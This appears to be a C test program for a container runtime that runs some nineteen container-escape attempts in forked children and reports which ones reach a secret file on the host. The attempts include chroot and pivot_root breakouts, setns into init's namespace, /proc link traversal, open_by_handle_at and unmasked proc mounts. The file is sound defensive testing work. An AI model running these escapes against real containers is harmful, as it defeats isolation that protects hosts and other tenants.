// Tries to get from inside a container to the initial ramfs below it, one way after the other.
//
//   escape TOKEN [MARK]    TOKEN: what /secret-outside on the ramfs holds ("-": do not look for it);
//                          MARK: a file name that every attempt creates in each root it gets to. Outside, it must not appear.
//
// Prints "ok escape: NAME" or "not ok escape: NAME WHY" for each, exits 1 if any got through. Each attempt runs in a process
// of its own, which may ruin its root, its working directory and its namespaces. A call that is refused is no failure: the
// attempt goes on with what it has, and what counts is what it can read.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef CLONE_NEWUSER
#define CLONE_NEWUSER 0x10000000
#endif
enum { NR_open_tree = 428, NR_move_mount = 429, OPEN_TREE_CLONE = 1, MOVE_EMPTY_PATH = 4, REC = 0x8000 };

static const char *token, *mark;
static char why[512]; // for the one process that found something
#define FOUND(...) (snprintf(why, sizeof why, __VA_ARGS__), 1)

// Does this file hold the secret?
static int holds(int dir, const char *path) {
    char text[256];
    int fd = openat(dir, path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, text, sizeof text - 1);
    close(fd);
    if (n <= 0 || !strcmp(token, "-"))
        return 0;
    text[n] = 0;
    return strstr(text, token) != NULL;
}

// Look for the secret from a directory, from the working directory and from the root.
static int look_from(int dir) {
    static const char *paths[] = {"secret-outside", "../secret-outside", "../../../../../../../../secret-outside",
                                  "/secret-outside", "/../secret-outside", "/../../../../../secret-outside"};
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        if (holds(dir, paths[i]))
            return FOUND("read the secret as %s", paths[i]);
        if (mark) {
            const char *slash = strrchr(paths[i], '/');
            char name[128];
            snprintf(name, sizeof name, "%.*s%s", slash ? (int)(slash + 1 - paths[i]) : 0, paths[i], mark);
            int fd = openat(dir, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
            if (fd >= 0)
                close(fd);
        }
    }
    return 0;
}
static int look(void) { return look_from(AT_FDCWD); }

// Into the namespace again: the kernel sets root and working directory to the topmost mount on the namespace's root.
static int reenter(int ns) {
    if (ns >= 0 && setns(ns, CLONE_NEWNS) == 0)
        return look();
    return 0;
}
static int own_namespace(void) { return open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC); }

// Another root, by pivot_root, and a look at where the old one was.
static int pivot_games(void) {
    mkdir("/esc-q", 0755);
    if (mount("/esc-q", "/esc-q", 0, MS_BIND, 0) < 0)
        mount("t", "/esc-q", "tmpfs", 0, 0);
    mkdir("/esc-q/old", 0755);
    if (chdir("/esc-q") < 0)
        return 0;
    if (syscall(SYS_pivot_root, ".", "old") == 0) {
        if (look())
            return 1;
        chdir("/");
        if (look())
            return 1;
        umount2("/old", MNT_DETACH);
        chdir("/");
    } else if (syscall(SYS_pivot_root, ".", ".") == 0) {
        umount2(".", MNT_DETACH);
        chdir("/");
    }
    return look();
}

// A user namespace of our own: all capabilities, over a copy of the mounts.
static int own_userns(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0)
        return 0;
    mount(0, "/", 0, MS_REC | MS_PRIVATE, 0);
    return 1;
}

static int dotdot(void) { return look() || (chdir("/") == 0 && chdir("../../../..") == 0 && look()); }

static int chroot_escape(void) {
    mkdir("/esc-d", 0755);
    if (chdir("/") < 0 || chroot("/esc-d") < 0)
        return 0;
    for (int i = 0; i < 64; i++)
        chdir("..");
    if (look())
        return 1;
    chroot(".");
    return look();
}

static int openat_up(void) {
    int dir = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    mkdir("/esc-e", 0755);
    int rooted = chroot("/esc-e");
    for (int i = 0; i < 64 && dir >= 0; i++) {
        int up = openat(dir, "..", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (up < 0)
            break;
        close(dir);
        dir = up;
        if (look_from(dir))
            return 1;
    }
    if (rooted == 0 && fchdir(dir) == 0 && chroot(".") == 0)
        return look();
    return 0;
}

// Every process we can see: its root, its working directory, its open directories.
static int proc_links(void) {
    static const char *links[] = {"root", "cwd", "root/..", "cwd/.."};
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while (proc && (e = readdir(proc))) {
        char path[600];
        if ((e->d_name[0] < '0' || e->d_name[0] > '9') && strcmp(e->d_name, "self"))
            continue;
        for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
            snprintf(path, sizeof path, "/proc/%s/%s", e->d_name, links[i]);
            int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (dir >= 0 && look_from(dir))
                return 1;
        }
        snprintf(path, sizeof path, "/proc/%s/fd", e->d_name);
        DIR *fds = opendir(path);
        struct dirent *f;
        while (fds && (f = readdir(fds))) {
            snprintf(path, sizeof path, "/proc/%s/fd/%s", e->d_name, f->d_name);
            int dir = f->d_name[0] == '.' ? -1 : open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            if (dir >= 0 && look_from(dir))
                return 1;
        }
    }
    return 0;
}

// Descriptors that came in from outside: 0, 1 and 2 are all there should be.
static int inherited_fds(void) {
    char path[64], to[256];
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) < 0)
            continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(path, to, sizeof to - 1);
        to[n < 0 ? 0 : n] = 0;
        return FOUND("fd %d is open: %s", fd, to);
    }
    return 0;
}

static int cwd_reachable(void) {
    char cwd[512];
    if (!getcwd(cwd, sizeof cwd))
        return FOUND("getcwd: %s", strerror(errno));
    return cwd[0] == '/' ? 0 : FOUND("cwd is %.300s", cwd);
}

// The ramfs must not be named: no mount of it but, perhaps, of the given directory in it (--rw); no namespace root.
static int mountinfo(void) {
    FILE *f = fopen("/proc/self/mountinfo", "re");
    char line[1024], root[512], point[512];
    int id, parent;
    if (!f)
        return FOUND("no /proc/self/mountinfo: %s", strerror(errno));
    while (fgets(line, sizeof line, f)) {
        char *type = strstr(line, " - ");
        if (!type || sscanf(line, "%d %d %*s %511s %511s", &id, &parent, root, point) != 4)
            continue;
        if (id == parent)
            return FOUND("the namespace's root is in sight: %.300s", line);
        if ((!strncmp(type, " - rootfs ", 10) || !strncmp(type, " - ramfs ", 9) || !strncmp(type, " - nullfs ", 10)) && !strcmp(root, "/"))
            return FOUND("the ramfs is mounted: %.300s", line);
        if (strstr(line, "//deleted") || strstr(line, "(unreachable)"))
            return FOUND("%.300s", line);
    }
    return 0;
}

static int setns_self(void) { return reenter(own_namespace()); }
static int setns_init(void) { return reenter(open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC)); }

static int chroot_then_setns(void) {
    int ns = own_namespace();
    return chroot_escape() || reenter(ns);
}

static int open_tree_up(void) {
    int fd = syscall(NR_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE | O_CLOEXEC | REC);
    if (fd >= 0 && (look_from(fd) || (fchdir(fd) == 0 && (look() || (chdir("..") == 0 && look())))))
        return 1;
    mkdir("/esc-t", 0755);
    if (fd >= 0 && syscall(NR_move_mount, fd, "", AT_FDCWD, "/esc-t", MOVE_EMPTY_PATH) == 0 && chdir("/esc-t") == 0)
        return look() || (chroot(".") == 0 && look());
    return 0;
}

// Opening files by number (the "shocker"): needs CAP_DAC_READ_SEARCH, which a container does not have by default.
static int by_handle(void) {
    struct { struct file_handle h; unsigned char room[128]; } u = {.h = {.handle_bytes = 128}};
    int id, root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (name_to_handle_at(AT_FDCWD, "/", &u.h, &id, 0) < 0)
        return 0;
    return open_by_handle_at(root, &u.h, O_RDONLY) >= 0 ? FOUND("open_by_handle_at is allowed") : 0;
}

static int userns_umount(void) {
    if (!own_userns())
        return 0;
    int ns = own_namespace();
    umount2("/", MNT_DETACH);
    return look() || reenter(ns) || chroot_escape();
}

static int userns_pivot(void) {
    if (!own_userns())
        return 0;
    int ns = own_namespace();
    return pivot_games() || reenter(ns);
}

static int userns_move(void) {
    if (!own_userns())
        return 0;
    int ns = own_namespace();
    mkdir("/esc-m", 0755);
    mount("t", "/esc-m", "tmpfs", 0, 0);
    mount("/", "/esc-m", 0, MS_MOVE, 0);
    if (look() || reenter(ns))
        return 1;
    if (chdir("/esc-m") == 0 && mount(".", "/", 0, MS_MOVE, 0) == 0 && chroot(".") == 0)
        umount2("/", MNT_DETACH);
    return look() || reenter(ns);
}

// Mounts of the host that are left in the namespace, out of sight, still count when the kernel decides whether a fresh
// proc may be mounted: one without the container's masks.
static int fresh_proc(void) {
    FILE *f = fopen("/proc/self/mountinfo", "re");
    char line[1024];
    int masked = 0, status;
    while (f && fgets(line, sizeof line, f))
        masked |= strstr(line, " /proc/") != NULL;
    if (!masked || unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
        return 0;
    pid_t pid = fork();
    if (pid == 0) {
        mkdir("/esc-p", 0755);
        _exit(mount("proc", "/esc-p", "proc", 0, 0) == 0);
    }
    waitpid(pid, &status, 0);
    return status ? FOUND("a proc without masks can be mounted: hidden mounts of the host are left in the namespace") : 0;
}

// With capabilities over the container's own mount namespace, if it has them: a copy with the same owner has no locks.
static int own_copy(void) {
    if (unshare(CLONE_NEWNS) == 0)
        mount(0, "/", 0, MS_REC | MS_PRIVATE, 0);
    return own_namespace();
}

static int plain_pivot(void) {
    int ns = own_copy();
    if (pivot_games() || reenter(ns))
        return 1;
    umount2("/", MNT_DETACH);
    return reenter(ns);
}

static int plain_umount(void) {
    int ns = own_copy();
    umount2("/", MNT_DETACH);
    return look() || reenter(ns) || chroot_escape();
}

static int plain_move(void) {
    int ns = own_copy();
    mkdir("/esc-m", 0755);
    if (mount("t", "/esc-m", "tmpfs", 0, 0) == 0 && chdir("/esc-m") == 0 && mount(".", "/", 0, MS_MOVE, 0) == 0)
        chroot(".");
    umount2("/", MNT_DETACH);
    if (look() || reenter(ns))
        return 1;
    umount2("/", MNT_DETACH);
    return reenter(ns);
}

static const struct { const char *name; int (*run)(void); } attempts[] = {
    {"dotdot", dotdot},
    {"inherited-fds", inherited_fds},
    {"cwd-reachable", cwd_reachable},
    {"chroot-escape", chroot_escape},
    {"openat-up", openat_up},
    {"proc-links", proc_links},
    {"mountinfo", mountinfo},
    {"open-tree", open_tree_up},
    {"by-handle", by_handle},
    {"setns-self", setns_self},
    {"setns-init", setns_init},
    {"chroot-then-setns", chroot_then_setns},
    {"userns-umount", userns_umount},
    {"userns-pivot", userns_pivot},
    {"userns-move", userns_move},
    {"fresh-proc", fresh_proc},
    {"umount-root", plain_umount},
    {"move-root", plain_move},
    {"pivot", plain_pivot},
};

int main(int argc, char **argv) {
    int failed = 0;
    if (argc < 2)
        return 2;
    token = argv[1];
    mark = argc > 2 ? argv[2] : NULL;
    for (size_t i = 0; i < sizeof attempts / sizeof *attempts; i++) {
        int status = 0;
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            if (attempts[i].run() == 0)
                _exit(0);
            why[strcspn(why, "\n")] = 0;
            printf("not ok escape: %s %s\n", attempts[i].name, why);
            fflush(stdout);
            _exit(1);
        }
        if (pid < 0 || waitpid(pid, &status, 0) != pid) {
            printf("not ok escape: %s cannot fork: %s\n", attempts[i].name, strerror(errno));
            failed = 1;
        } else if (WIFSIGNALED(status)) {
            // Killed by a seccomp filter, say: that attempt got nowhere.
            printf("ok escape: %s (signal %d)\n", attempts[i].name, WTERMSIG(status));
        } else if (status == 0) {
            printf("ok escape: %s\n", attempts[i].name);
        } else {
            failed = 1;
        }
    }
    return failed;
}
